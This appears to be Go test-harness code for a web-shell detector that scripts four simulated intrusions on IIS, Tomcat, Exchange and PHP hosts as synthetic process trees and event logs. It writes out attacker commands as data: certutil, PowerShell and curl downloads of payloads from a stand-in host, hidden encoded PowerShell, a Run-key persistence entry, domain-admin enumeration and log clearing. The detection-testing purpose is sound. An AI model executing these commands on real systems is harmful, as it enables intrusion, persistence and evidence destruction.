package fleet

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"time"
	"unicode/utf16"

	"webshellscan/internal/evtxtest"
)

// Names of the scripted incidents, as the truth has them.
const (
	IncidentPortal   = "portal-upload"       // IIS: an uploaded page runs commands, then a dropped program
	IncidentTomcat   = "tomcat-shell"        // Tomcat: commands below a service whose PID had another owner
	IncidentExchange = "exchange-powershell" // Exchange: encoded PowerShell below the OWA pool
	IncidentPHP      = "php-command"         // Apache: a PHP page runs commands among harmless ones
)

// staging is the host that files are fetched from, of a range for documentation.
var staging = Connection{"198.51.100.77", "cdn.tides.example", 443}

// encoded returns a PowerShell script as -EncodedCommand takes it: UTF-16LE in base64.
func encoded(script string) string {
	var raw []byte
	for _, u := range utf16.Encode([]rune(script)) {
		raw = binary.LittleEndian.AppendUint16(raw, u)
	}
	return base64.StdEncoding.EncodeToString(raw)
}

// shellOf is cmd.exe /c with one program in it.
func shellOf(after time.Duration, program, command string, steps ...Step) Step {
	return Step{
		Program: "cmd", Command: `"cmd.exe" /c ` + command, After: after,
		Steps: []Step{{Program: program, Command: command, After: 20 * time.Millisecond, Steps: steps}},
	}
}

// netUser is net.exe, which hands its work to net1.exe.
func netUser(after time.Duration, arguments string) Step {
	return Step{Program: "net", Command: "net  " + arguments, After: after, Steps: []Step{
		{Program: "net1", Command: `C:\Windows\system32\net1  ` + arguments, After: 12 * time.Millisecond},
	}}
}

// PlayPortalUpload plays the incident on a host with IIS: requests that fail, a page that is dropped and
// compiled, a look around with shells, a program fetched with certutil and what it runs, four levels deep.
func (h *Host) PlayPortalUpload() {
	worker := h.Worker("CustomerPortal")
	page := `C:\inetpub\portal\uploads\health.aspx`
	for i := range 3 {
		h.after(time.Duration(i)*9*time.Second, func() { h.portalException(worker, i) })
	}
	h.after(70*time.Second, func() { h.fileCreate(worker, page) })
	h.after(80*time.Second, func() { h.compilePage(worker) })
	h.PlayIncident(IncidentPortal, worker,
		shellOf(95*time.Second, "whoami", "whoami"),
		shellOf(112*time.Second, "ipconfig", "ipconfig /all"),
		Step{Program: "cmd", Command: `"cmd.exe" /c net user & net localgroup administrators`, After: 140 * time.Second, Steps: []Step{
			netUser(20*time.Millisecond, "user"), netUser(700*time.Millisecond, "localgroup administrators"),
		}},
		Step{Program: "cmd", Command: `"cmd.exe" /c dir /s /b C:\inetpub\portal\*.config`, After: 181 * time.Second},
		shellOf(233*time.Second, "systeminfo", "systeminfo"),
		Step{Program: "cmd", Command: `"cmd.exe" /c certutil -urlcache -split -f https://cdn.tides.example/r/hb.txt C:\Windows\Temp\hb.exe`, After: 300 * time.Second, Steps: []Step{
			{
				Program: "certutil", Command: `certutil  -urlcache -split -f https://cdn.tides.example/r/hb.txt C:\Windows\Temp\hb.exe`, After: 20 * time.Millisecond, Life: 4 * time.Second,
				Drops: []string{`C:\Windows\Temp\hb.exe`}, Connects: []Connection{staging},
			},
		}},
		Step{Program: "cmd", Command: `"cmd.exe" /c start /b C:\Windows\Temp\hb.exe -q`, After: 340 * time.Second, Steps: []Step{
			{
				Program: "hb", Command: `C:\Windows\Temp\hb.exe  -q`, After: 30 * time.Millisecond, Life: 22 * time.Minute, Connects: []Connection{staging},
				Sets: []RegistryValue{{`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\PortalHealth`, `C:\Windows\Temp\hb.exe -q`}},
				Steps: []Step{{
					Program: "powershell", After: 90 * time.Second, Life: 6 * time.Minute,
					Command: `powershell.exe -nop -w hidden -enc ` + encoded("Get-Date; Get-ChildItem C:\\inetpub"),
					Steps: []Step{{
						Program: "cmd", Command: `"C:\Windows\system32\cmd.exe" /c nltest /dclist:harbor.example`, After: 40 * time.Second,
						Steps: []Step{{Program: "nltest", Command: `nltest  /dclist:harbor.example`, After: 20 * time.Millisecond}},
					}, netUser(2*time.Minute, `group "Domain Admins" /domain`)},
				}},
			},
		}},
	)
}

// portalException logs that a request made the portal throw an exception.
func (h *Host) portalException(worker *Process, n int) {
	h.write(ChannelApplication, &evtxtest.ASPNetException{
		EventID: fmt.Sprintf("%016x%016x", h.rng.Uint64(), h.rng.Uint64()), Sequence: uint32(40 + n), Occurrence: uint32(1 + n),
		AppDomain: "/LM/W3SVC/2/ROOT-1-133540000000000000", VirtualPath: "/", AppPath: `C:\inetpub\portal\`,
		Machine: h.shortName(), ProcessID: worker.PID, ProcessName: "w3wp.exe", Account: worker.Session.User,
		ExceptionType: "HttpException", ExceptionMessage: "The file type is not allowed. (\"health.aspx\")",
		URL: fmt.Sprintf("https://portal.harbor.example/upload.aspx?step=%d&return=%%2fhome", n), Path: "/upload.aspx",
		HostAddress: "198.51.100.23", ThreadID: uint32(20 + n),
		StackTrace: "   at Harbor.Portal.Upload.Check(HttpPostedFile file)\r\n   at Harbor.Portal.Upload.Page_Load(Object sender, EventArgs e)",
	}, nil)
}

// PlayTomcatShell plays the incident on a host with Tomcat: commands of a page, each in a shell of its
// own, a program fetched from outside, and a log that is cleared.
func (h *Host) PlayTomcatShell() {
	worker := h.services["Tomcat9"]
	h.after(282*time.Second, func() {
		h.write(ChannelSystem, &evtxtest.LogCleared{Subject: worker.Session.Account, Channel: "Application"}, nil)
	})
	h.PlayIncident(IncidentTomcat, worker,
		Step{Program: "cmd", Command: `cmd.exe /c whoami`, After: time.Second, Steps: []Step{{Program: "whoami", Command: "whoami", After: 15 * time.Millisecond}}},
		Step{Program: "cmd", Command: `cmd.exe /c hostname & netstat -an`, After: 21 * time.Second, Steps: []Step{
			{Program: "hostname", Command: "hostname", After: 15 * time.Millisecond},
			{Program: "netstat", Command: "netstat  -an", After: 300 * time.Millisecond},
		}},
		Step{Program: "cmd", Command: `cmd.exe /c net localgroup administrators`, After: 58 * time.Second, Steps: []Step{netUser(15*time.Millisecond, "localgroup administrators")}},
		Step{Program: "cmd", Command: `cmd.exe /c tasklist /v`, After: 80 * time.Second, Steps: []Step{{Program: "tasklist", Command: "tasklist  /v", After: 15 * time.Millisecond}}},
		Step{
			Program: "powershell", Life: 20 * time.Second, After: 170 * time.Second,
			Command: `powershell -c "Invoke-WebRequest https://cdn.tides.example/r/u.bin -OutFile C:\ProgramData\upd.exe"`,
		},
		Step{Program: "upd", Command: `C:\ProgramData\upd.exe --once`, After: 200 * time.Second, Life: 4 * time.Minute, Steps: []Step{
			{Program: "cmd", Command: `cmd /c reg query HKLM\SOFTWARE\Harbor /s`, After: 5 * time.Second, Steps: []Step{
				{Program: "reg", Command: `reg  query HKLM\SOFTWARE\Harbor /s`, After: 15 * time.Millisecond},
			}},
		}},
		Step{Program: "cmd", Command: `cmd.exe /c wevtutil cl Application`, After: 281 * time.Second, Steps: []Step{
			{Program: "wevtutil", Command: "wevtutil  cl Application", After: 15 * time.Millisecond},
		}},
	)
}

// PlayExchange plays the incident on a mail server: encoded PowerShell below the worker of OWA, which runs
// as SYSTEM.
func (h *Host) PlayExchange() {
	worker := h.Worker("MSExchangeOWAAppPool")
	page := `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\errorEE.aspx`
	h.after(time.Second, func() { h.fileCreate(worker, page) })
	h.after(4*time.Second, func() { h.compilePage(worker) })
	h.PlayIncident(IncidentExchange, worker,
		Step{
			Program: "powershell", After: 12 * time.Second, Life: 3 * time.Minute,
			Command: `"powershell.exe" -NonInteractive -enc ` + encoded("whoami; net group 'Exchange Trusted Subsystem' /domain"),
			Steps: []Step{
				{Program: "whoami", Command: `"C:\Windows\system32\whoami.exe"`, After: 2 * time.Second},
				netUser(5*time.Second, `group "Exchange Trusted Subsystem" /domain`),
			},
		},
		Step{Program: "cmd", Command: `cmd.exe /c vssadmin list shadows`, After: 260 * time.Second, Steps: []Step{
			{Program: "vssadmin", Command: "vssadmin  list shadows", After: 20 * time.Millisecond, Life: 2 * time.Second},
		}},
		Step{Program: "cmd", Command: `cmd.exe /c makecab C:\ProgramData\mb.log C:\inetpub\wwwroot\aspnet_client\mb.cab`, After: 420 * time.Second, Steps: []Step{
			{
				Program: "makecab", Command: `makecab  C:\ProgramData\mb.log C:\inetpub\wwwroot\aspnet_client\mb.cab`, After: 20 * time.Millisecond, Life: 5 * time.Second,
				Drops: []string{`C:\inetpub\wwwroot\aspnet_client\mb.cab`},
			},
		}},
	)
}

// PlayPHPCommand plays the incident on a host with Apache and PHP: commands in the same form as those of
// the harmless packages.
func (h *Host) PlayPHPCommand() {
	php := h.phpWorker()
	run := func(after time.Duration, command string, steps ...Step) Step {
		return Step{Program: "cmd", Command: `cmd.exe /s /c "` + command + `"`, After: after, Steps: steps}
	}
	h.PlayIncident(IncidentPHP, php,
		run(time.Second, "whoami", Step{Program: "whoami", Command: "whoami", After: 15 * time.Millisecond}),
		run(12*time.Second, "ver"),
		run(33*time.Second, `echo %COMPUTERNAME% & ipconfig`, Step{Program: "ipconfig", Command: "ipconfig", After: 15 * time.Millisecond}),
		run(71*time.Second, `curl -s -o C:\www\tmp\a.php https://cdn.tides.example/r/a.txt`,
			Step{
				Program: "curl", Command: `curl  -s -o C:\www\tmp\a.php https://cdn.tides.example/r/a.txt`, After: 15 * time.Millisecond, Life: 2 * time.Second,
				Drops: []string{`C:\www\tmp\a.php`}, Connects: []Connection{staging},
			}),
		run(130*time.Second, `tasklist /svc | findstr /i "sql"`,
			Step{Program: "tasklist", Command: "tasklist  /svc ", After: 15 * time.Millisecond},
			Step{Program: "findstr", Command: `findstr  /i "sql"`, After: 16 * time.Millisecond}),
	)
}
